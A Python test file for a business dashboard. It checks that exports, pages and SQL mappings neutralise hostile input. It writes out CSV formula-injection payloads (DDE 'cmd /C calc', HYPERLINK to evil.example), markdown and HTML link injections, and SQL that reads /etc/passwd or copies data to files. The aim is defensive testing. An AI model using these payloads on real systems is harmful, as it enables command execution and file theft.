"""Hostile values in the data: exports that cannot run a formula, JSON any parser reads, report text
shown as written."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import logging
import threading
import time
import uuid
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from streamlit.testing.v1 import AppTest

import cli
from data.demo import write_demo
from data.engine import make_readonly_engine
from data.source import MappingError, check_single_select
from kpi.customer_value import compute_clv
from render.export import FORMULA_STARTS, table_bytes
from render.text import chart_text, md
from service.memo import SharedCache, size_of
from service.passwords import LoginLimiter, email_allowed
from service.report import Section, _page
from service.turns import Turns
from tests.conftest import APP

#: OWASP's CSV-injection examples, and the ways a spreadsheet may still take a cell for a formula
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Click me")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+1",
    "+1",
    "-1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": PAYLOADS,
            "revenue": [-5.25] * len(PAYLOADS),  # a negative amount stays a number
            "orders": list(range(len(PAYLOADS))),
        }
    )


@pytest.mark.parametrize("lang", ["it", "en", None])
def test_an_excel_export_holds_text_where_a_name_looks_like_a_formula(lang: str | None) -> None:
    table = _hostile_table().rename(columns={"orders": "=SUM(A1:A9)"})
    sheet = openpyxl.load_workbook(io.BytesIO(table_bytes(table, "xlsx", lang))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in names] == PAYLOADS  # shown exactly, no apostrophe added
    assert all(c.data_type == "s" and c.quotePrefix for c in names)  # and stays text when edited
    header = sheet.cell(row=1, column=3)
    assert header.value == "=SUM(A1:A9)" and header.data_type == "s"
    amounts = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert amounts == [-5.25] * len(PAYLOADS)


@pytest.mark.parametrize("lang", ["it", "en"])
def test_a_csv_export_quotes_what_would_start_a_formula(lang: str) -> None:
    raw = table_bytes(_hostile_table(), "csv", lang).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";" if lang == "it" else ","))
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + p for p in PAYLOADS]
    assert not [n for n in names if n.startswith(FORMULA_STARTS)]
    amounts = {r[1] for r in rows[1:]}
    assert amounts == {"-5,25" if lang == "it" else "-5.25"}  # numbers are not quoted


def test_control_characters_never_reach_a_spreadsheet() -> None:
    table = pd.DataFrame({"name": ["Rossi\x00 & C.", "bell\x07", "ok"], "revenue": [1.0, 2.0, 3.0]})
    text = table_bytes(table, "csv").decode()
    assert "\x00" not in text and "\x07" not in text
    assert "Rossi\ufffd & C." in text
    sheet = openpyxl.load_workbook(io.BytesIO(table_bytes(table, "xlsx"))).active
    assert sheet is not None
    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == ["Rossi\ufffd & C.", "bell\ufffd", "ok"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The demo with formula payloads for product and campaign names."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.sqlite"
    url = f"sqlite:///{path}"
    write_demo(url, customers=300, seed=3)
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        for i, product in enumerate(conn.execute(sa.text("SELECT product_id FROM products")).scalars()):
            name = PAYLOADS[i % len(PAYLOADS)]
            conn.execute(sa.text("UPDATE products SET name = :n WHERE product_id = :p"), {"n": name, "p": product})
        conn.execute(sa.text("UPDATE campaigns SET name = :n"), {"n": PAYLOADS[0]})
    engine.dispose()
    return url


def _cli(args: list[str], url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("CRUSCOTTO_DB_URL", url)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert cli.main(args) == 0
    return out.getvalue()


def test_the_upsell_list_from_the_cli_has_no_formula(
    hostile_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "upsell.xlsx"
    _cli(["upsell", "--out", str(target)], hostile_db, monkeypatch)
    sheet = openpyxl.load_workbook(target).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value in PAYLOADS for c in cells)  # the hostile names are there, as text


def _no_constants(name: str) -> Any:
    raise ValueError(f"{name} is not JSON")


def test_json_output_is_standard_json(hostile_db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for command in (["roi", "--json"], ["overview", "--json"], ["clv", "--json"]):
        printed = _cli(command, hostile_db, monkeypatch)
        json.loads(printed, parse_constant=_no_constants)  # NaN or Infinity would raise
        assert "NaN" not in printed
    roi = json.loads(_cli(["roi", "--json"], hostile_db, monkeypatch))
    assert any(v is None for row in roi["campaigns"] for v in row.values())  # unknown ratios are null


def test_report_text_shows_quotes_and_tags_as_written() -> None:
    name = 'Fiera "Rimini" <b>2024</b> & co'
    assert chart_text(name) == 'Fiera "Rimini" &lt;b&gt;2024&lt;/b&gt; &amp; co'
    page = _page(Section(title=name, comment=name), name, [name], name, [(name, name)])
    text = json.dumps(page.to_plotly_json(), default=str)
    assert "&quot;" not in text and "<b>2024</b>" not in text
    assert "&lt;b&gt;2024" in text


# --- Names are shown as text: never markdown, HTML or a hover placeholder ------------------------

NAMES = [
    "![x](http://evil.example/pixel.png)",
    "[Click me](http://evil.example)",
    '<a href="http://evil.example">Click here</a>',
    ":red[Danger] :material/warning:",
    "$x^2$ **bold** _it_ `code` # Title",
    "http://evil.example",
    "%{customdata[0]} 50%",
    "Rossi\u202eSpA",
]
_SPECIAL = set("\\`*_[]<>~$|&@")  # what starts something inline in a line of markdown


@pytest.mark.parametrize("name", NAMES)
def test_markdown_escapes_every_sign_it_could_read(name: str) -> None:
    escaped = md(name)
    i = 0
    while i < len(escaped):
        if escaped[i] == "\\":
            assert escaped[i + 1] in _SPECIAL | {":"}, escaped
            i += 2
            continue
        assert escaped[i] not in _SPECIAL, (escaped, escaped[i])
        i += 1
    assert "\u202e" not in escaped and "\u202e" not in chart_text(name)
    assert "www." not in md("see www.evil.example")
    # the colon that opens a directive or an emoji is escaped, an address is broken by a word joiner
    # (links are found after the escapes are read), a colon in prose is left alone
    assert md(":red[x] :material/warning: :tada: http://e.x a: b") == (
        "\\:red\\[x\\] \\:material/warning: \\:tada: http:\u2060//e.x a: b"
    )
    assert "\n" not in md("a\n# b")


@pytest.mark.parametrize("name", NAMES)
def test_chart_text_leaves_no_tag_and_no_placeholder(name: str) -> None:
    text = chart_text(name)
    assert "<" not in text and ">" not in text and "%{" not in text


@pytest.fixture(scope="module")
def hostile_names_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The demo with a hostile segment name and hostile campaign names."""
    path = tmp_path_factory.mktemp("names") / "names.sqlite"
    url = f"sqlite:///{path}"
    write_demo(url, customers=300, seed=4)
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE customers SET segment = :n WHERE segment = 'HoReCa'"), {"n": NAMES[0]})
        ids = list(conn.execute(sa.text("SELECT campaign_id FROM campaigns")).scalars())
        for i, campaign in enumerate(ids):
            conn.execute(
                sa.text("UPDATE campaigns SET name = :n WHERE campaign_id = :c"),
                {"n": NAMES[-(i % len(NAMES)) - 1] + f" {i}", "c": campaign},  # Rossi\u202eSpA first
            )
    engine.dispose()
    return url


def test_pages_show_hostile_names_as_text(
    hostile_names_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = tmp_path / "cruscotto.toml"
    config.write_text("")
    monkeypatch.setenv("CRUSCOTTO_CONFIG", str(config))
    monkeypatch.setenv("CRUSCOTTO_DB_URL", hostile_names_db)
    for page in ("pages/panoramica.py", "pages/marketing.py", "pages/valore.py"):
        at = AppTest.from_file(APP, default_timeout=90)
        at.run()
        if page != "pages/panoramica.py":
            at.switch_page(page).run()
        assert not at.exception, [e.value for e in at.exception]
        shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
        for table in at.table:
            shown += [str(v) for v in table.value.to_numpy().ravel()]
        for text in shown:
            assert "](http://evil.example" not in text, text  # a link or an image would need it raw
            assert "<a href" not in text
        for frame in at.dataframe:  # an override is shown as its code, not obeyed
            assert not any("\u202e" in str(v) for v in frame.value.to_numpy().ravel())
        if page == "pages/marketing.py":
            names = [str(v) for v in at.dataframe[0].value.iloc[:, 0]]
            assert any("Rossi<U+202E>SpA" in n for n in names), names
        charts = json.dumps([json.loads(el.proto.spec) for el in at.get("plotly_chart")])
        assert "<a href" not in charts and "%{customdata[0]} 50%" not in charts
        if page == "pages/panoramica.py":
            assert any(md(NAMES[0]) in str(v) for table in at.table for v in table.value.to_numpy().ravel())


# --- Mapping SQL: one SELECT, parsed; no file reached from DuckDB ---------------------------------


@pytest.mark.parametrize(
    ("dialect", "sql", "code"),
    [
        ("duckdb", "SELECT E'\\'' ; COPY (SELECT 1) TO '/tmp/cruscotto_pwned.csv'; --'", "mapping.sql_many"),
        ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "mapping.sql_files"),
        ("duckdb", "SELECT read_text('/etc/passwd') AS t", "mapping.sql_files"),
        ("duckdb", "SELECT * FROM glob('/etc/*')", "mapping.sql_files"),
        ("duckdb", "SELECT * FROM '/etc/passwd'", "mapping.sql_files"),
        ("duckdb", "COPY orders TO '/tmp/cruscotto_pwned.csv'", "mapping.sql_not_select"),
        ("duckdb", "ATTACH '/tmp/other.db' AS other", "mapping.sql_not_select"),
        ("duckdb", "INSTALL httpfs", "mapping.sql_not_select"),
        ("postgresql", "SELECT pg_read_file('/etc/passwd') AS t", "mapping.sql_files"),
        ("postgresql", "SELECT * FROM orders FOR UPDATE", "mapping.sql_writes"),
        ("mysql", "SELECT LOAD_FILE('/etc/passwd') AS t", "mapping.sql_files"),
        ("sqlite", "PRAGMA table_info(orders)", "mapping.sql_not_select"),
        ("sqlite", "SELECT * FROM (", "mapping.sql_unreadable"),
    ],
)
def test_mapping_sql_is_parsed_not_scanned(dialect: str, sql: str, code: str) -> None:
    with pytest.raises(MappingError) as info:
        check_single_select(sql, "entities.orders.sql", dialect)
    assert info.value.code == code and info.value.key == "entities.orders.sql"


@pytest.mark.parametrize("dialect", ["duckdb", "postgresql", "sqlite", "mysql"])
def test_ordinary_words_in_a_select_are_fine(dialect: str) -> None:
    sql = "SELECT order_id, replace(note, 'update', 'set') AS note, 'delete; drop' AS label FROM orders"
    assert check_single_select(sql + ";", "k", dialect) == sql


def test_duckdb_sources_reach_no_file(tmp_path: Path) -> None:
    path = tmp_path / "shop.duckdb"
    write_demo(f"duckdb:///{path}", customers=100, seed=1)
    target = tmp_path / "pwned.csv"
    engine = make_readonly_engine(f"duckdb:///{path}")
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM orders")).scalar() > 0
    for statement in (
        "SELECT * FROM read_csv('/etc/passwd')",
        f"COPY (SELECT 1) TO '{target}'",
        "SET enable_external_access = true",
    ):
        with engine.connect() as conn, pytest.raises(sa.exc.DBAPIError):
            conn.execute(sa.text(statement)).fetchall()
    assert not target.exists()
    engine.dispose()


# --- A customer's value is never NaN ------------------------------------------------------------


def _rfm_with_an_extreme_customer() -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    """400 ordinary customers and one with 1,089 purchase days (99.9 % of the margin)."""
    rng = np.random.default_rng(7)
    n = 400
    first = pd.Timestamp("2023-01-01") + pd.to_timedelta(rng.integers(0, 300, n), unit="D")
    days = rng.integers(1, 8, n)
    last = first + pd.to_timedelta(np.where(days > 1, rng.integers(30, 500, n), 0), unit="D")
    value = rng.uniform(20, 200, n)
    rfm = pd.DataFrame(
        {
            "customer_id": np.arange(n),
            "segment": "A",
            "region": "Nord",
            "channel": "Web",
            "first_purchase": first,
            "last_purchase": last,
            "purchase_days": days,
            "total_value": value * days,
            "first_value": value,
        }
    )
    extreme = {
        "customer_id": n,
        "segment": "A",
        "region": "Nord",
        "channel": "Web",
        "first_purchase": pd.Timestamp("2023-01-01"),
        "last_purchase": pd.Timestamp("2025-12-24"),
        "purchase_days": 1089,
        "total_value": 1089 * 40_000.0,
        "first_value": 40_000.0,
    }
    rfm = pd.concat([rfm, pd.DataFrame([extreme])], ignore_index=True)
    margins = pd.DataFrame({"customer_id": rfm["customer_id"], "margin": rfm["total_value"]})
    costs = pd.DataFrame(
        {"customer_id": rfm["customer_id"], "tickets": 0, "service_cost": 0.0, "acquisition_cost": 0.0}
    )
    return rfm, margins, costs


def test_an_extreme_customer_keeps_a_value_and_is_counted() -> None:
    rfm, margins, costs = _rfm_with_an_extreme_customer()
    result = compute_clv(rfm, margins, costs, as_of=date(2025, 12, 31))
    assert result.predicted, result.notice
    table = result.table.set_index("customer_id")
    assert np.isfinite(table["total_clv"]).all() and np.isfinite(table["residual_clv"]).all()
    extreme = table.loc[400]
    assert extreme["total_clv"] >= extreme["historical_clv"] > 4e7  # never below what they brought
    # the model's formulas overflow for them: valued on their history, and counted
    assert result.unvalued == 1 and extreme["residual_clv"] == 0.0
    top = table.sort_values("total_clv", ascending=False).index[0]
    assert top == 400  # the most valuable customer stays in the most-valuable list


def test_a_model_that_fails_for_another_reason_says_so() -> None:
    rfm, margins, costs = _rfm_with_an_extreme_customer()
    few = rfm.assign(purchase_days=1, total_value=rfm["first_value"], last_purchase=rfm["first_purchase"])
    result = compute_clv(few, margins, costs, as_of=date(2025, 12, 31))
    assert not result.predicted and result.reason == "few_repeat"
    assert np.isfinite(result.table["total_clv"]).all()


# --- Bad bytes and extreme values ---------------------------------------------------------------


@pytest.fixture(scope="module")
def extreme_sources(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The demo with amounts no business books (infinite, 1e308, -1e308), a year-1 order and a
    segment name holding a byte that is not UTF-8, on SQLite and DuckDB."""
    out = {}
    for kind in ("sqlite", "duckdb"):
        path = tmp_path_factory.mktemp(f"extreme_{kind}") / f"extreme.{kind}"
        url = f"{kind}:///{path}"
        write_demo(url, customers=150, seed=9)
        engine = sa.create_engine(url)
        with engine.begin() as conn:
            ids = list(conn.execute(sa.text("SELECT order_id FROM orders ORDER BY order_id LIMIT 4")).scalars())
            for order, revenue in zip(ids[:3], (float("inf"), 1e308, -1e308), strict=True):
                conn.execute(sa.text("UPDATE orders SET revenue = :r WHERE order_id = :o"), {"r": revenue, "o": order})
            conn.execute(sa.text("UPDATE orders SET order_date = '0001-01-01' WHERE order_id = :o"), {"o": ids[3]})
            if kind == "sqlite":  # SQLite keeps any bytes in a text column
                conn.execute(sa.text("UPDATE customers SET segment = CAST(X'4261729F' AS TEXT) WHERE rowid = 1"))
        engine.dispose()
        out[kind] = url
    return out


@pytest.mark.parametrize("kind", ["sqlite", "duckdb"])
def test_extreme_values_are_excluded_and_counted(extreme_sources: dict[str, str], kind: str) -> None:
    from data.settings import load_settings
    from data.source import Source
    from service import compute

    source = Source(settings=load_settings(None, env={}, secrets_path="/nonexistent"), url=extreme_sources[kind])
    facts = compute.facts_for(source, date(2026, 11, 25))
    excluded = facts.health["orders"]["excluded"]
    assert excluded.get("implausible_amount") == 3 and excluded.get("implausible_date") == 1
    assert np.isfinite(facts.d_revenue).all() and np.abs(facts.d_revenue).max() < 1e12
    if kind == "sqlite":
        assert any("\ufffd" in str(s) for s in facts.options["segment"])  # read, not a failed page
        assert facts.health["customers"].get("unreadable_text") == 1  # and counted for the data-health page


@pytest.mark.parametrize("kind", ["sqlite", "duckdb"])
def test_every_page_works_over_all_history_with_extreme_values(
    extreme_sources: dict[str, str], kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = tmp_path / "cruscotto.toml"
    config.write_text("")
    monkeypatch.setenv("CRUSCOTTO_CONFIG", str(config))
    monkeypatch.setenv("CRUSCOTTO_DB_URL", extreme_sources[kind])
    at = AppTest.from_file(APP, default_timeout=90)
    at.query_params["period"] = ["Tutto lo storico"]
    at.run()
    for page in (
        "pages/valore.py",
        "pages/marketing.py",
        "pages/ciclo-di-vita.py",
        "pages/opportunita.py",
        "pages/dati.py",
    ):
        at.switch_page(page).run()
        assert not at.exception, (page, [e.value for e in at.exception])
        assert not at.error, (page, [e.value for e in at.error])
        shown = " ".join(m.value for m in at.metric if isinstance(m.value, str))
        assert "∞" not in shown and "nan" not in shown.lower()
    if kind == "sqlite":  # the last page is data health: it points at the row with unreadable text
        assert any("non UTF-8" in w.value for w in at.warning), [w.value for w in at.warning]


# --- Login: limits that a new session does not reset, a log, an allow-list ---------------------


class _Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_the_limiter_backs_off_per_address_and_in_all() -> None:
    clock = _Clock()
    limiter = LoginLimiter(free=3, cap=900, forget=3600, global_max=5, global_window=600, clock=clock)
    for _ in range(3):
        assert limiter.wait("1.2.3.4") == 0
        limiter.failed("1.2.3.4")
    assert limiter.wait("1.2.3.4") == 2  # the fourth attempt waits 2 s, then 4, 8 …
    limiter.failed("1.2.3.4")
    assert limiter.wait("1.2.3.4") == 4 and limiter.wait("5.6.7.8") == 0
    clock.now += 4
    assert limiter.wait("1.2.3.4") == 0
    for _ in range(20):
        limiter.failed("1.2.3.4")
    assert limiter.wait("1.2.3.4") == 900  # capped at a quarter of an hour
    assert limiter.wait("5.6.7.8") == 600  # 25 failures in ten minutes: everybody waits
    clock.now += 3601
    assert limiter.wait("1.2.3.4") == 0 and limiter.wait("5.6.7.8") == 0  # forgotten
    limiter.failed("5.6.7.8")
    limiter.succeeded("5.6.7.8")
    assert limiter.wait("5.6.7.8") == 0


def test_allow_list_of_company_accounts() -> None:
    assert email_allowed("chiunque@gmail.com")  # no list: every account the provider accepts
    assert email_allowed("Anna@Azienda.it", domains=["azienda.it"])
    assert not email_allowed("anna@altra-azienda.it", domains=["azienda.it"])
    assert not email_allowed("anna@azienda.it.evil.example", domains=["azienda.it"])
    assert email_allowed("socio@gmail.com", emails=["socio@gmail.com"], domains=["azienda.it"])
    assert not email_allowed(None, emails=["socio@gmail.com"])


def test_new_sessions_do_not_reset_the_wrong_password_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, hostile_names_db: str
) -> None:
    """A scripted client that opens a new session for every guess: the fourth guess waits, even with
    the right password, and every attempt is in the log without the password."""
    from service.passwords import hash_password
    from ui import access

    config = tmp_path / "cruscotto.toml"
    config.write_text("")
    monkeypatch.setenv("CRUSCOTTO_CONFIG", str(config))
    monkeypatch.setenv("CRUSCOTTO_DB_URL", hostile_names_db)
    monkeypatch.setenv("CRUSCOTTO_PASSWORD_HASH", hash_password("giusta-2026"))
    clock = _Clock()
    monkeypatch.setattr(access.LIMITER, "clock", clock)
    access.LIMITER.reset()

    def attempt(password: str) -> AppTest:
        at = AppTest.from_file(APP, default_timeout=90)  # a new session each time
        at.run()
        at.text_input[0].input(password)
        at.button[0].click().run()
        return at

    with caplog.at_level(logging.INFO, logger="cruscotto.access"):
        for guess in ("uno", "due", "tre"):
            assert "Password errata" in attempt(guess).error[0].value
        refused = attempt("giusta-2026")
        assert "riprova tra 2 secondi" in refused.error[0].value and len(refused.metric) == 0
        clock.now += 2
        let_in = attempt("giusta-2026")
        assert not let_in.error and len(let_in.metric) > 0
    log = caplog.text
    assert log.count("failed login") == 3 and "login from" in log
    assert not any(word in log for word in ("uno", "due", "tre", "giusta"))
    access.LIMITER.reset()


# --- Fair share: heavy work one at a time, in order ----------------------------------------------


def test_reports_wait_their_turn_in_order() -> None:
    turns = Turns(slots=1)
    order: list[str] = []
    told: dict[str, list[int]] = {"b": [], "c": []}
    first_in = threading.Event()
    release = threading.Event()

    def first() -> None:
        with turns.turn():
            first_in.set()
            release.wait(5)
            order.append("a")

    def later(name: str) -> None:
        with turns.turn(told[name].append, poll=0.01):
            order.append(name)

    threads = [threading.Thread(target=first)]
    threads[0].start()
    assert first_in.wait(5)
    for name in ("b", "c"):
        threads.append(threading.Thread(target=later, args=(name,)))
        threads[-1].start()
        while turns.busy < len(threads):
            time.sleep(0.005)
    assert turns.busy == 3
    release.set()
    for thread in threads:
        thread.join(5)
    assert order == ["a", "b", "c"]  # first come, first served
    assert told["b"][0] == 1 and told["c"][0] == 2  # each told how many are ahead
    assert turns.busy == 0


def _hold(turns: Turns, owner: str, entered: list[str], release: threading.Event, **kw: Any) -> threading.Thread:
    def run() -> None:
        with turns.turn(owner=owner, poll=0.01, **kw):
            entered.append(owner)
            release.wait(5)

    thread = threading.Thread(target=run)
    thread.start()
    return thread


def _until(condition: Any, seconds: float = 5) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.005)


def test_a_client_with_many_sessions_waits_behind_itself() -> None:
    """Page runs: a free slot goes to the client served longest ago. A client with five sessions
    waiting does not keep a visitor who comes after them waiting for all five."""
    turns = Turns(slots=1)
    entered: list[str] = []
    gates = [threading.Event() for _ in range(7)]
    threads = [_hold(turns, "hammer", entered, gates[0])]
    _until(lambda: entered == ["hammer"])
    for i in range(1, 6):  # four more sessions of the same client, queued
        threads.append(_hold(turns, "hammer", entered, gates[i]))
        _until(lambda i=i: turns.busy == i + 1)
    told: list[int] = []
    threads.append(_hold(turns, "visitor", entered, gates[6], waiting=told.append))
    _until(lambda: turns.busy == 7)
    assert told and told[0] == 1  # only the page running now is ahead of the visitor
    gates[0].set()
    _until(lambda: len(entered) == 2)
    assert entered[1] == "visitor"  # next, before the client's other sessions
    for gate in gates[1:]:
        gate.set()
    for thread in threads:
        thread.join(5)
    assert entered.count("hammer") == 6 and turns.busy == 0


def test_a_visitor_who_leaves_while_waiting_leaves_the_queue() -> None:
    turns = Turns(slots=1)
    entered: list[str] = []
    release = threading.Event()
    holder = _hold(turns, "a", entered, release)
    _until(lambda: entered == ["a"])

    def leave(_ahead: int) -> None:
        raise RuntimeError("the visitor left")  # Streamlit stops a script thus, at its next element

    with pytest.raises(RuntimeError), turns.turn(leave, owner="b", poll=0.01, every_poll=True):
        pass
    assert turns.busy == 1
    release.set()
    holder.join(5)
    assert turns.busy == 0


def test_a_page_waiting_for_a_report_gives_up_its_slot() -> None:
    pages = Turns(slots=1)
    inside = threading.Event()
    done = threading.Event()
    entered: list[str] = []

    def report_page() -> None:
        with pages.turn(owner="a"):
            with pages.aside():
                inside.set()
                done.wait(5)
            assert pages.holds()  # the turn is taken again for the rest of the page

    thread = threading.Thread(target=report_page)
    thread.start()
    assert inside.wait(5)
    other = _hold(pages, "b", entered, threading.Event())
    _until(lambda: entered == ["b"])  # another page ran while the report was built
    other.join(0.01)
    done.set()
    thread.join(5)
    assert not thread.is_alive()


def test_shared_results_stay_within_their_memory_budget() -> None:
    clock = _Clock()
    cache = SharedCache(budget=3 * 8_000_000 + 1000, ttl=600, clock=clock)
    calls: list[int] = []

    @cache.memo
    def table(_source: object, n: int) -> pd.DataFrame:
        calls.append(n)
        return pd.DataFrame({"value": np.zeros(1_000_000)})  # 8 MB of numbers

    for n in (1, 2, 3):
        table(object(), n)
    assert len(cache) == 3 and 24_000_000 <= cache.size <= 3 * 8_000_000 + 1000
    table(None, 1)  # used again: the most recent now
    table(None, 4)  # over the budget: the one used longest ago (2) goes
    assert len(cache) == 3 and cache.size <= cache.budget
    table(None, 1), table(None, 3), table(None, 4)
    assert calls == [1, 2, 3, 4]  # the private argument is not part of the key
    table(None, 2)
    assert calls[-1] == 2
    cache.resize(1)  # smaller than any result: the newest is still kept
    assert len(cache) == 1
    clock.now += 601
    table(None, 2)
    assert calls[-1] == 2 and calls.count(2) == 3  # older than the age limit: made again


def test_what_is_read_from_the_source_outlives_the_budget() -> None:
    """The facts (``kept``) are larger than the budget and used longest ago, yet the results made
    from them are the ones that go: forgetting the facts first read the source again for every page."""
    clock = _Clock()
    cache = SharedCache(budget=2 * 8_000_000 + 1000, ttl=600, clock=clock)
    reads: list[int] = []
    made: list[int] = []

    @cache.kept
    def facts(n: int) -> pd.DataFrame:
        reads.append(n)
        return pd.DataFrame({"value": np.zeros(4_000_000)})  # 32 MB: twice the budget

    @cache.memo
    def page(n: int) -> pd.DataFrame:
        facts(0)
        made.append(n)
        return pd.DataFrame({"value": np.zeros(1_000_000)})  # 8 MB

    for n in (1, 2, 3, 4):
        page(n)
    assert reads == [0]  # read once, whatever the budget
    assert len(cache) == 3  # the facts and the two newest pages: the budget holds two pages
    page(3), page(4)
    assert made == [1, 2, 3, 4]
    page(1)
    assert made[-1] == 1 and reads == [0]
    cache.resize(1)  # smaller than anything: the facts and the newest page stay
    assert len(cache) == 2 and reads == [0]
    clock.now += 601  # old: read again
    page(1)
    assert reads == [0, 0]


def test_an_old_renewed_result_is_served_while_a_newer_one_is_made() -> None:
    """``renewed``: nobody waits for a result that exists. Once old, it is still handed out, the
    renewal is asked for once however many callers come, and the newer one replaces it when handed
    over; a renewal that fails keeps the old one and is asked for again after ``retry_s``."""
    clock = _Clock()
    cache = SharedCache(budget=1 << 30, ttl=600, clock=clock)
    asked: list[int] = []
    reads: list[int] = []

    @cache.renewed(lambda n: asked.append(n), retry_s=60)
    def facts(n: int) -> str:
        reads.append(n)
        return f"read {len(reads)}"

    assert facts(1) == "read 1" and reads == [1] and asked == []  # none yet: made while the caller waits
    clock.now += 601
    assert facts.made(1) == "read 1"  # type: ignore[attr-defined]  # old, yet not forgotten
    assert [facts(1), facts(1), facts(1)] == ["read 1"] * 3  # old: served at once, renewal asked once
    assert asked == [1] and reads == [1] and facts.renewing(1)  # type: ignore[attr-defined]
    assert facts.put("read 2", 1)  # type: ignore[attr-defined]  # the newer one, made elsewhere
    assert facts(1) == "read 2" and not facts.renewing(1) and asked == [1]  # type: ignore[attr-defined]
    clock.now += 601
    assert facts(1) == "read 2" and asked == [1, 1]
    facts.failed(1)  # type: ignore[attr-defined]  # could not be made: the old one stays
    assert facts(1) == "read 2" and asked == [1, 1] and not facts.renewing(1)  # type: ignore[attr-defined]
    clock.now += 59
    assert facts(1) == "read 2" and asked == [1, 1]  # not asked again before retry_s
    clock.now += 2
    assert facts(1) == "read 2" and asked == [1, 1, 1]
    cache.clear()  # forgotten meanwhile: the newer one is not kept, the next caller makes one
    assert not facts.put("read 3", 1)  # type: ignore[attr-defined]
    assert facts(1) == "read 2" and reads == [1, 1]  # (made again: the second read)

    def broken(n: int) -> None:
        raise RuntimeError("no thread")

    @cache.renewed(broken)
    def other(n: int) -> int:
        return n

    assert other(5) == 5
    clock.now += 601
    assert other(5) == 5 and not other.renewing(5)  # type: ignore[attr-defined]  # failed to start: later
    cache.clear_where(lambda k: str(k[0]).endswith("other"))
    assert other.made(5) is None  # type: ignore[attr-defined]
    assert facts.made(1) == "read 2"  # type: ignore[attr-defined]  # only what matched was forgotten


def test_a_renewed_result_is_never_forgotten_for_its_age() -> None:
    """Results older than ``ttl`` go at the next result made (they stayed until asked for again,
    and some never are); a ``renewed`` one is renewed when ``renew_after`` old, never forgotten."""
    clock = _Clock()
    cache = SharedCache(budget=1 << 30, ttl=3600, clock=clock, renew_after=600)
    asked: list[int] = []

    @cache.renewed(asked.append)
    def facts(day: int) -> np.ndarray:
        return np.zeros(1000)

    @cache.kept
    def lines(day: int) -> np.ndarray:
        return np.zeros(10)

    @cache.memo
    def page(n: int) -> int:
        return n

    facts(1), lines(1), page(1)
    clock.now += 601
    facts(1)  # old: served, renewal asked for
    assert asked == [1] and len(cache) == 3
    clock.now += 3000
    page(2)  # made: the results past their age go, the renewed one stays
    assert facts.made(1) is not None and lines.made(1) is None and page.made(1) is None  # type: ignore[attr-defined]
    assert len(cache) == 2 and asked == [1]


def test_a_shared_result_is_made_once_for_visitors_asking_together() -> None:
    cache = SharedCache(budget=1 << 30, ttl=600)
    calls: list[int] = []
    started = threading.Event()

    @cache.memo
    def slow(n: int) -> int:
        calls.append(n)
        started.set()
        time.sleep(0.2)
        return n * 2

    results: list[int] = []
    threads = [threading.Thread(target=lambda: results.append(slow(21))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(5)
    assert results == [42] * 4 and calls == [21]


def test_a_result_being_made_when_the_cache_is_cleared_is_not_kept() -> None:
    """A result made in the background from what a clear forgot is handed to its caller, not kept."""
    cache = SharedCache(budget=1 << 30, ttl=600)
    started, go_on = threading.Event(), threading.Event()
    calls: list[int] = []

    @cache.memo
    def slow(n: int) -> int:
        calls.append(n)
        started.set()
        go_on.wait(5)
        return n * 2

    results: list[int] = []
    thread = threading.Thread(target=lambda: results.append(slow(21)))
    thread.start()
    started.wait(5)
    cache.clear()
    go_on.set()
    thread.join(5)
    assert results == [42] and len(cache) == 0
    assert slow.made(22) is None and slow.made(21) is None  # type: ignore[attr-defined]
    assert slow(21) == 42 and calls == [21, 21] and len(cache) == 1
    assert slow.made(21) == 42 and calls == [21, 21]  # type: ignore[attr-defined]
    started.clear()
    go_on.clear()
    thread = threading.Thread(target=lambda: results.append(slow(5)))
    thread.start()
    started.wait(5)
    cache.clear("some.other_function")  # forgets that one's results only
    go_on.set()
    thread.join(5)
    assert slow.made(5) == 10 and slow.made(21) == 42  # type: ignore[attr-defined]
    for n, kept in ((7, False), (8, True)):  # forgotten by its key while being made: not kept
        started.clear()
        go_on.clear()
        thread = threading.Thread(target=lambda n=n: results.append(slow(n)))
        thread.start()
        started.wait(5)
        cache.clear_where(lambda key: ("n", 7) in key)
